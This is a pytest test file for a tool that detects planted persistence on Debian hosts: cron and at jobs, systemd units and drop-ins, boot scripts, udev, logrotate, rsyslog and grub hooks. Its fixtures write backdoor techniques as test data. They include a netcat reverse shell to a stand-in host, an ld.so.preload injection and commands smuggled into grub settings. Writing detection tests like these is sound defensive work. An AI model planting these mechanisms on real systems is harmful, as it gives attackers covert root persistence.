"""Planted jobs: crontabs, at jobs, changed cron tables and foreign timers are named; what
dpkg installed, and a masked timer, are not."""

from __future__ import annotations

import hashlib
import os
import re
from pathlib import Path

import pytest

from statemesh import jobs
from statemesh.guarantees import rescue


def test_any_crontab_and_any_at_job_is_named(tmp_path: Path) -> None:
    crontabs, at_jobs = tmp_path / "crontabs", tmp_path / "atjobs"
    assert jobs.spool_problems(crontabs, at_jobs) == []  # cron and at not even installed
    crontabs.mkdir()
    at_jobs.mkdir()
    (at_jobs / ".SEQ").write_text("1\n")
    assert jobs.spool_problems(crontabs, at_jobs) == []
    (crontabs / "root").write_text("@reboot /root/way-in\n")
    (at_jobs / "a00001019a2b3c").write_text("#!/bin/sh\n/root/way-in\n")
    assert jobs.spool_problems(crontabs, at_jobs) == [
        f"crontabs of root in {crontabs} (crontab -r -u USER)",
        f"at jobs pending in {at_jobs}: {at_jobs}/a00001019a2b3c (atrm them)"]


def test_cron_tables_not_as_packaged(tmp_path: Path) -> None:
    cron_d = tmp_path / "cron.d"
    cron_d.mkdir()
    shipped = b"30 3 * * 0 root test -e /run/systemd/system || e2scrub_all\n"
    (cron_d / "e2scrub_all").write_bytes(shipped)
    (cron_d / "e2scrub_all.dpkg-old").write_text("* * * * * root true\n")  # cron skips it
    files = {str(cron_d / "e2scrub_all"): hashlib.md5(shipped).hexdigest()}
    crontab = tmp_path / "crontab"
    dirs = (f"{cron_d}/*",)
    assert jobs.table_problems(files, [str(crontab)], dirs) == []
    (cron_d / "planted").write_text("* * * * * root /root/way-in\n")
    (cron_d / "e2scrub_all").write_bytes(shipped + b"* * * * * root /root/way-in\n")
    crontab.write_text("* * * * * root /root/way-in\n")
    assert jobs.table_problems(files, [str(crontab)], dirs) == [
        f"cron jobs not as a package installed them: {cron_d}/e2scrub_all, {cron_d}/planted, "
        f"{crontab} (remove them, or reinstall their package)"]


def test_timers_and_generators_no_package_installed(tmp_path: Path) -> None:
    system, lib, generators = (tmp_path / "etc-system", tmp_path / "lib-system",
                               tmp_path / "generators")
    for directory in (system, lib, generators):
        directory.mkdir()
    unit = b"[Timer]\nOnCalendar=daily\n"
    (lib / "fstrim.timer").write_bytes(unit)
    (system / "fstrim.timer").symlink_to(lib / "fstrim.timer")  # a packaged one, linked
    (system / "apt-daily.timer").symlink_to("/dev/null")  # masked
    files = {str(lib / "fstrim.timer"): hashlib.md5(unit).hexdigest()}
    timers, gens = (f"{system}/*.timer", f"{lib}/*.timer"), (f"{generators}/*",)
    assert jobs.timer_problems(files, timers, gens) == []
    (lib / "way-in.timer").write_bytes(unit)
    (system / "way-in.timer").symlink_to(lib / "way-in.timer")  # one file, named once
    (generators / "way-in-generator").write_text("#!/bin/sh\n/root/way-in\n")
    assert jobs.timer_problems(files, timers, gens) == [
        f"systemd timers no package installed: {system}/way-in.timer (systemctl stop and "
        "disable them, remove their files, systemctl daemon-reload)",
        f"systemd generators no package installed, run as root at every boot: "
        f"{generators}/way-in-generator (remove them)"]


def test_a_spool_that_cannot_be_read_is_not_taken_for_an_empty_one(tmp_path: Path) -> None:
    not_a_directory = tmp_path / "crontabs"
    not_a_directory.write_text("")
    assert jobs.spool_problems(not_a_directory, tmp_path / "none") == [
        f"cannot read {not_a_directory} to look for jobs (run as root)"]


def test_services_and_dropins_no_package_installed(tmp_path: Path) -> None:
    """A service enabled from anywhere, and a drop-in for any unit, that dpkg did not
    install is named once; packaged units, their aliases and links, and masks are not."""
    etc, lib, elsewhere = tmp_path / "etc", tmp_path / "lib", tmp_path / "root"
    for directory in (etc / "multi-user.target.wants", lib, elsewhere):
        directory.mkdir(parents=True)
    unit = b"[Service]\nExecStart=/usr/sbin/cron -f\n"
    (lib / "cron.service").write_bytes(unit)
    (etc / "multi-user.target.wants" / "cron.service").symlink_to(lib / "cron.service")
    (etc / "crond.service").symlink_to(lib / "cron.service")  # an alias
    (etc / "ssh.service").symlink_to("/dev/null")  # masked
    # a removed package's enable link: nothing to load from it
    (etc / "multi-user.target.wants" / "gone.service").symlink_to(lib / "gone.service")
    files = {str(lib / "cron.service"): hashlib.md5(unit).hexdigest()}
    units = tuple(f"{d}/{links}*.{kind}" for d in (etc, lib)
                  for links in ("", "*.wants/") for kind in ("service", "socket"))
    dropins = (f"{etc}/*service.d/*.conf",)
    assert jobs.unit_problems(files, units, dropins) == []

    backdoor = b"[Service]\nExecStart=/bin/sh -c 'exec nc operator.example 4444 -e /bin/sh'\n"
    (elsewhere / "way-back.service").write_bytes(backdoor)  # `systemctl link`ed, enabled
    (etc / "way-back.service").symlink_to(elsewhere / "way-back.service")
    (etc / "multi-user.target.wants" / "way-back.service").symlink_to(etc / "way-back.service")
    (etc / "way-in.socket").write_text("[Socket]\nListenStream=7443\nAccept=yes\n")
    (lib / "cron.service").write_bytes(unit + b"ExecStartPost=/root/way-in\n")  # changed
    for directory in ("cron.service.d", "service.d"):
        (etc / directory).mkdir()
        (etc / directory / "50-way-in.conf").write_text("[Service]\nExecStartPre=/root/way-in\n")
    assert jobs.unit_problems(files, units, dropins) == [
        # the changed packaged unit by the first path that reaches it, its alias
        f"systemd units no package installed, which would run as root: {etc}/crond.service, "
        f"{etc}/way-back.service, {etc}/way-in.socket (systemctl disable --now them, remove "
        "their files, systemctl daemon-reload)",
        f"systemd drop-ins no package installed, which change what a unit runs: "
        f"{etc}/cron.service.d/50-way-in.conf, {etc}/service.d/50-way-in.conf "
        "(remove them, systemctl daemon-reload)"]


def test_init_scripts_rc_local_lingering_users_tmpfiles_and_sysusers(tmp_path: Path) -> None:
    """What generators, logind, tmpfiles and sysusers do at boot with no unit file of its
    own: a packaged tmpfiles.d file as shipped passes, an edited one or one of root's own
    (a w+ of /etc/ld.so.preload) does not, nor a sysusers.d line adding a user to tss."""
    init_d, rc_local, linger = tmp_path / "init.d", tmp_path / "rc.local", tmp_path / "linger"
    tmpfiles, sysusers = tmp_path / "tmpfiles.d", tmp_path / "sysusers.d"
    for directory in (init_d, tmpfiles, sysusers):
        directory.mkdir()
    script = b"#!/bin/sh\n### BEGIN INIT INFO\n"
    (init_d / "kmod").write_bytes(script)
    shipped = b"d /run/sshd 0755 root root\n"
    (tmpfiles / "openssh-server.conf").write_bytes(shipped)
    files = {str(init_d / "kmod"): hashlib.md5(script).hexdigest(),
             str(tmpfiles / "openssh-server.conf"): hashlib.md5(shipped).hexdigest()}
    rc_local.write_text("#!/bin/sh\nexit 0\n")  # not executable: rc-local.service skips it
    args = (files, (f"{init_d}/*",), rc_local, linger, (f"{tmpfiles}/*", f"{sysusers}/*"))
    assert jobs.boot_script_problems(*args) == []
    (init_d / "way-back").write_text("#!/bin/sh\n/root/way-in &\n")
    rc_local.chmod(0o755)
    linger.mkdir()
    (linger / "root").touch()
    (tmpfiles / "openssh-server.conf").write_bytes(shipped + b"L+ /etc/cron.d/x - - - - /root/x\n")
    (tmpfiles / "zz-way-in.conf").write_text("w+ /etc/ld.so.preload - - - - /root/way-in.so\n")
    (sysusers / "tenant.conf").write_text("m nobody tss\n")
    assert jobs.boot_script_problems(*args) == [
        f"init scripts no package installed, which systemd runs as services: {init_d}/way-back "
        "(remove them, or purge their package)",
        "systemd-tmpfiles and systemd-sysusers configuration not as a package installed it, "
        "applied as root at every boot (files written, links made, accounts and group members "
        f"added): {sysusers}/tenant.conf, {tmpfiles}/openssh-server.conf, "
        f"{tmpfiles}/zz-way-in.conf (remove it, or reinstall its package)",
        f"{rc_local} is executable: rc-local.service runs it at every boot (chmod -x "
        f"{rc_local}, or remove it)",
        "users whose service manager starts at boot without a login: root "
        "(loginctl disable-linger USER)"]


def test_hooks_of_packaged_programs_not_as_installed(tmp_path: Path) -> None:
    """A kernel hook, an initramfs conf.d file (sourced as shell), a udev rule with RUN+=,
    a changed logrotate conffile; directories and what dpkg installed unchanged are not."""
    kernel, conf_d, rules, logrotate = (tmp_path / "postinst.d", tmp_path / "conf.d",
                                        tmp_path / "rules.d", tmp_path / "logrotate.d")
    for directory in (kernel, conf_d, rules, logrotate):
        directory.mkdir()
    shipped = b"/var/log/apt/term.log {\n  rotate 12\n}\n"
    (logrotate / "apt").write_bytes(shipped)
    (conf_d / "subdirectory").mkdir()  # a directory is not a hook to judge
    files = {str(logrotate / "apt"): hashlib.md5(shipped).hexdigest()}
    globs = tuple(f"{directory}/*" for directory in (kernel, conf_d, rules, logrotate))
    assert jobs.hook_problems(files, globs) == []
    (kernel / "zz-way-in").write_text("#!/bin/sh\n/root/way-in\n")
    (conf_d / "way-in.conf").write_text("/root/way-in\n")
    (rules / "99-way-in.rules").write_text('ACTION=="add", RUN+="/root/way-in"\n')
    (logrotate / "apt").write_bytes(shipped + b"postrotate\n/root/way-in\nendscript\n")
    assert jobs.hook_problems(files, globs) == [
        "hooks of packaged programs not as a package installed them, run as root later "
        "(kernel and initramfs updates, the initramfs at boot, needrestart, logrotate, udev, "
        "modprobe, network events, key requests, log messages, sysfs at boot): "
        f"{conf_d}/way-in.conf, {logrotate}/apt, "
        f"{kernel}/zz-way-in and 1 more (remove them, or reinstall their package)"]


def test_dhcpcds_hooks_are_judged(tmp_path: Path) -> None:
    """Debian 13's ifupdown leases with dhcpcd, which runs its enter and exit hooks (and its
    packaged hook directory) as root at every lease: the hook list covers them."""
    dhcpcd = [pattern for pattern in jobs.HOOK_GLOBS if "dhcpcd" in pattern]
    globs = tuple(f"{tmp_path}{pattern}" for pattern in dhcpcd)
    (tmp_path / "etc").mkdir()
    (tmp_path / "etc/dhcpcd.exit-hook").write_text("/root/way-in\n")
    assert str(tmp_path / "etc/dhcpcd.exit-hook") in jobs.hook_problems({}, globs)[0]


@pytest.mark.parametrize("planted, text", [
    ("/etc/rsyslog.d/50-way-in.conf",
     'module(load="omprog")\n*.* action(type="omprog" binary="/root/way-in")\n'),
    ("/etc/rsyslog.conf", "*.* ^/root/way-in\n"),
    ("/etc/sysfs.conf", "kernel/uevent_helper = /root/way-in\n"),
    ("/etc/sysfs.d/way-in.conf", "kernel/uevent_helper = /root/way-in\n"),
])
def test_rsyslogs_and_sysfsutils_configuration_is_judged(tmp_path: Path, planted: str,
                                                          text: str) -> None:
    """rsyslog runs a program as root at every matching message (omprog, or `^` in the
    legacy syntax); sysfsutils writes its settings into /sys at every boot."""
    globs = tuple(f"{tmp_path}{pattern}" for pattern in jobs.HOOK_GLOBS
                  if "rsyslog" in pattern or "sysfs" in pattern)
    path = tmp_path / planted.lstrip("/")
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    files = {str(tmp_path / "etc/rsyslog.d/20-ufw.conf"): hashlib.md5(b":msg, contains").hexdigest()}
    (tmp_path / "etc/rsyslog.d").mkdir(exist_ok=True)
    (tmp_path / "etc/rsyslog.d/20-ufw.conf").write_bytes(b":msg, contains")  # as packaged
    [found] = jobs.hook_problems(files, globs)
    assert found.endswith(f"sysfs at boot): {path} (remove them, or reinstall their package)")


@pytest.mark.parametrize("text, runs", [
    ('*.* action(type="omprog" binary="/root/way-in")\n', True),
    ("*.* ^/root/way-in;RSYSLOG_TraditionalFileFormat\n", True),
    ('module(load="/root/way-in.so")\n', True),
    ("$ModLoad /root/way-in.so\n", True),
    ('include(file="/root/more.conf")\n', True),
    ("$IncludeConfig /root/*.conf\n", True),
    ('action(type="mmexternal" binary="/root/way-in")\n', True),
    ("*.* @@loghost.example:514\n", False),  # forwarding
    ('module(load="imudp")\ninput(type="imudp" port="514")\n', False),
    ("$AddUnixListenSocket /var/spool/postfix/dev/log\n", False),  # postfix's postinst
    ("$IncludeConfig /etc/rsyslog.d/*.conf\n", False),
    (':msg, regex, "^foo" stop\n', False),
    ("# *.* ^/root/way-in\n", False),  # a comment
])
def test_rsyslogs_files_are_judged_by_what_they_run(tmp_path: Path, text: str,
                                                    runs: bool) -> None:
    path = tmp_path / "rsyslog.conf"
    path.write_text(text)
    assert jobs.rsyslog_runs_nothing(path) is not runs


def test_a_hook_linked_to_a_packaged_program_or_hidden_by_a_dot_is_named(tmp_path: Path) -> None:
    """`ln -s /usr/bin/perl postrm.d/zz` runs perl on a file the operator names after a
    kernel; logrotate reads `.x` too. A link to /dev/null only disables a hook."""
    kernel, logrotate, rules = tmp_path / "postrm.d", tmp_path / "logrotate.d", tmp_path / "rules.d"
    for directory in (kernel, logrotate, rules):
        directory.mkdir()
    perl = tmp_path / "perl"
    perl.write_bytes(b"#!perl\n")
    files = {str(perl): hashlib.md5(b"#!perl\n").hexdigest()}  # a packaged program
    (kernel / "zz").symlink_to(perl)
    (logrotate / ".x").write_text("/var/log/x { postrotate\n/root/way-in\nendscript }\n")
    (rules / "80-net-setup-link.rules").symlink_to("/dev/null")
    (tmp_path / "tmp-null").symlink_to("/dev/null")
    (rules / "81-way-in.rules").symlink_to(tmp_path / "tmp-null")  # /dev/null by a detour
    # ... or through a directory that is not there yet: anyone may make it a link later.
    (rules / "82-way-in.rules").symlink_to("/statemesh-test-gone/../dev/null")
    globs = (f"{kernel}/*", f"{logrotate}/*", f"{rules}/*")
    found = jobs.hook_problems(files, globs)
    assert len(found) == 1 and f"{logrotate}/.x, {kernel}/zz, {rules}/81-way-in.rules and " \
        "1 more (" in found[0], found
    assert "80-net-setup-link" not in found[0]


GRUB_AS_DEBIAN_SHIPS_IT = """\
# If you change this file, run 'update-grub' afterwards to update
GRUB_DEFAULT=0
GRUB_TIMEOUT=5
GRUB_DISTRIBUTOR=`lsb_release -i -s 2> /dev/null || echo Debian`
GRUB_CMDLINE_LINUX_DEFAULT="quiet"
GRUB_CMDLINE_LINUX=""
#GRUB_TERMINAL=console
"""


@pytest.mark.parametrize("text, settings_only", [
    (GRUB_AS_DEBIAN_SHIPS_IT + 'GRUB_CMDLINE_LINUX="console=ttyS0,115200"\n', True),
    ('GRUB_CMDLINE_LINUX_DEFAULT="${GRUB_CMDLINE_LINUX_DEFAULT} console=tty1"\n'
     "export GRUB_TIMEOUT_STYLE='hidden'\n", True),
    (rescue.GRUB_SETTINGS, True),  # the lockdown's own drop-in
    ('GRUB_CMDLINE_LINUX="$(/root/way-in)"\n', False),
    ("GRUB_TIMEOUT=`/root/way-in`\n", False),
    ("GRUB_TIMEOUT=0; /root/way-in\n", False),
    ("GRUB_TIMEOUT=0\n/root/way-in &\n", False),
    ('GRUB_CMDLINE_LINUX="$PATH"\n', False),
    ('GRUB_X="\\$(/root/way-in)"\n', False),
])
def test_grub_settings_files_may_set_grub_variables_and_run_nothing(
        tmp_path: Path, text: str, settings_only: bool) -> None:
    """update-grub sources them as root at every kernel update: an operator's console
    settings pass whoever wrote them, a command does not."""
    settings = tmp_path / "grub"
    settings.write_text(text)
    assert jobs.grub_settings_only(settings) is settings_only
    assert jobs.GRUB_SETTINGS_FILES.match("/etc/default/grub")
    assert jobs.GRUB_SETTINGS_FILES.match("/etc/default/grub.d/50-cloudimg-settings.cfg")
    assert not jobs.GRUB_SETTINGS_FILES.match("/etc/grub.d/40_custom")


def test_a_hook_symlink_its_package_shipped_is_not_named(tmp_path: Path) -> None:
    """isc-dhcp-client, on every Debian 12 server that uses ifupdown, ships its debug hooks
    as symlinks to its own /etc/dhcp/debug: dpkg lists them but records no md5, and
    preflight refused every such machine. A link its package lists, to a file of that
    package as installed, is as installed; re-pointed to another package's program, or
    one no package lists, it is named."""
    dhcp, dpkg = tmp_path / "dhcp", tmp_path / "dpkg"
    (dhcp / "dhclient-exit-hooks.d").mkdir(parents=True)
    (dpkg / "info").mkdir(parents=True)
    debug, link = dhcp / "debug", dhcp / "dhclient-exit-hooks.d" / "debug"
    debug.write_text("# debug hook\n")
    perl = tmp_path / "perl"
    perl.write_text("#!perl\n")
    link.symlink_to("../debug")
    (dpkg / "status").write_text("Package: isc-dhcp-client\nStatus: install ok installed\n\n"
                                 "Package: perl-base\nStatus: install ok installed\n")
    (dpkg / "info" / "isc-dhcp-client.list").write_text(f"{dhcp}\n{debug}\n{link}\n")
    (dpkg / "info" / "perl-base.list").write_text(f"{perl}\n")
    files = {str(debug): hashlib.md5(b"# debug hook\n").hexdigest(),
             str(perl): hashlib.md5(b"#!perl\n").hexdigest()}
    globs = (f"{dhcp}/dhclient-exit-hooks.d/*",)
    assert jobs.hook_problems(files, globs, dpkg) == []

    link.unlink()
    link.symlink_to(perl)  # the package's link path, another package's program
    assert str(link) in jobs.hook_problems(files, globs, dpkg)[0]
    link.unlink()
    link.symlink_to("../debug")
    debug.write_text("# debug hook\n/root/way-in\n")  # the file it names, changed
    assert str(link) in jobs.hook_problems(files, globs, dpkg)[0]
    debug.write_text("# debug hook\n")
    # Through another link that anyone may make at the next boot (/tmp is emptied then).
    hop = tmp_path / "tmp-x"
    hop.symlink_to(debug)
    link.unlink()
    link.symlink_to(hop)
    assert str(link) in jobs.hook_problems(files, globs, dpkg)[0]
    link.unlink()
    link.symlink_to("../debug")
    planted = dhcp / "dhclient-exit-hooks.d" / "zz"
    planted.symlink_to("../debug")  # a link no package lists
    assert jobs.hook_problems(files, globs, dpkg)[0].endswith(
        f"network events, key requests, log messages, sysfs at boot): {planted} (remove them, or reinstall their package)")


def test_a_hook_or_cron_directory_that_is_a_link_is_named(tmp_path: Path) -> None:
    """A hook directory made a link to /tmp/x is empty now (nothing in it to judge) and
    anyone's to fill after the next boot; so is one under a linked directory."""
    real = tmp_path / "real-hooks"
    real.mkdir()
    (tmp_path / "hooks.d").symlink_to(real)
    (tmp_path / "kernel").symlink_to("/statemesh-test-gone")  # dangling: /tmp after a boot
    (tmp_path / "cron.d").mkdir()
    patterns = (f"{tmp_path}/hooks.d/*", f"{tmp_path}/kernel/*.d/*", f"{tmp_path}/cron.d/*")
    assert jobs.linked_directory_problems(patterns) == [
        "directories of hooks or cron jobs that are links, whose target may be anyone's to "
        f"fill later: {tmp_path}/hooks.d, {tmp_path}/kernel (make each a directory again, "
        "or reinstall its package)"]
    assert jobs.linked_directory_problems((f"{tmp_path}/cron.d/*",)) == []


@pytest.mark.parametrize("line, settings_only", [
    ('GRUB_CMDLINE_LINUX_DEFAULT="$GRUB_CMDLINE_LINUX_DEFAULT console=ttyS0,115200"', True),
    ('GRUB_CMDLINE_LINUX="${GRUB_X} quiet" # a comment', True),
    ("GRUB_TIMEOUT=5  # seconds", True),
    # What sh reads otherwise than a text reader would: a default value in an expansion, a
    # # inside a word (no comment: a second assignment follows), a carriage return (no
    # line break in sh).
    ('GRUB_CMDLINE_LINUX="${GRUB_UNSET:-init=/root/x}"', False),
    ('GRUB_CMDLINE_LINUX=quiet# GRUB_CMDLINE_LINUX_DEFAULT="init=/root/x"', False),
    ('GRUB_CMDLINE_LINUX="quiet"# GRUB_CMDLINE_LINUX_DEFAULT="init=/root/x"', False),
    ('GRUB_CMDLINE_LINUX="quiet"\r# GRUB_CMDLINE_LINUX_DEFAULT="init=/root/x"', False),
])
def test_grub_settings_are_read_as_sh_reads_them(tmp_path: Path, line: str,
                                                 settings_only: bool) -> None:
    settings = tmp_path / "50-x.cfg"
    settings.write_bytes(f"{line}\n".encode())
    assert jobs.grub_settings_only(settings) is settings_only


def test_screens_generated_tmpfiles_file_passes_as_its_postinst_writes_it(
        tmp_path: Path) -> None:
    """Debian's screen writes /etc/tmpfiles.d/screen-cleanup.conf from its postinst, so dpkg
    has no record of it: it passes holding what that script writes, not a line more."""
    written = tmp_path / "screen-cleanup.conf"
    generated = {str(written): jobs.GENERATED_CONFIG["/etc/tmpfiles.d/screen-cleanup.conf"]}
    written.write_text("# This file is generated by /var/lib/dpkg/info/screen.postinst upon "
                       "package configuration\nd /run/screen 1777 root utmp\n")
    assert jobs._as_generated(str(written), generated)
    written.write_text(written.read_text() + "w+ /etc/ld.so.preload - - - - /root/x.so\n")
    assert not jobs._as_generated(str(written), generated)
    assert not jobs._as_generated(str(tmp_path / "absent.conf"), generated)


@pytest.mark.usefixtures("returns_promptly")
def test_a_fifo_where_a_generated_file_is_expected_is_named(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A FIFO at screen's generated tmpfiles.d file: systemd-tmpfiles would read whatever is
    written into it at boot. It is named as no package's, saying what it is; it was waited
    on for ever."""
    tmpfiles = tmp_path / "tmpfiles.d"
    tmpfiles.mkdir()
    fifo = tmpfiles / "screen-cleanup.conf"
    os.mkfifo(fifo)
    monkeypatch.setitem(jobs.GENERATED_CONFIG, str(fifo),
                        jobs.GENERATED_CONFIG["/etc/tmpfiles.d/screen-cleanup.conf"])
    [found] = jobs.boot_script_problems({}, (), tmp_path / "rc.local", tmp_path / "linger",
                                        (f"{tmpfiles}/*",))
    assert f": {fifo} (a FIFO) (remove it, or reinstall its package)" in found, found


@pytest.mark.usefixtures("returns_promptly")
def test_a_fifo_as_grubs_settings_file_is_named(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """update-grub sources /etc/default/grub as shell: a FIFO there runs whatever is written
    into it. It is named among the hooks; it was waited on for ever."""
    grub = tmp_path / "grub"
    os.mkfifo(grub)
    monkeypatch.setattr(jobs, "GRUB_SETTINGS_FILES", re.compile(f"^{re.escape(str(grub))}$"))
    assert not jobs.grub_settings_only(grub)
    [found] = jobs.hook_problems({}, (str(grub),), tmp_path / "dpkg")
    assert found.endswith(f": {grub} (a FIFO) (remove them, or reinstall their package)"), found


def test_request_keys_configuration_is_judged() -> None:
    """The kernel runs /sbin/request-key as root when any user asks for a key it does not
    hold, and request-key runs the commands its configuration names."""
    assert {"/etc/request-key.conf", "/etc/request-key.d/*"} <= set(jobs.HOOK_GLOBS)
